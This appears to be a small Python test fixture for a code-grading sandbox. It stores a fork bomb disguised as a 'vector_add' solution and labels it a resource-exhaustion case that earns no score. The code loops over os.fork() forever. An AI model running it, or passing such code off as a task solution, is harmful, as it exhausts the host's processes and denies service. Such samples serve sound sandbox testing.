"""Every process starts two more. Kind: exhaustion."""

EXERCISE = "vector_add"
EARNS = 0
ALONE = True
CELL = '''
import os


def vector_add(out, x, y):
    while True:
        try:
            os.fork()
        except OSError:
            pass
'''
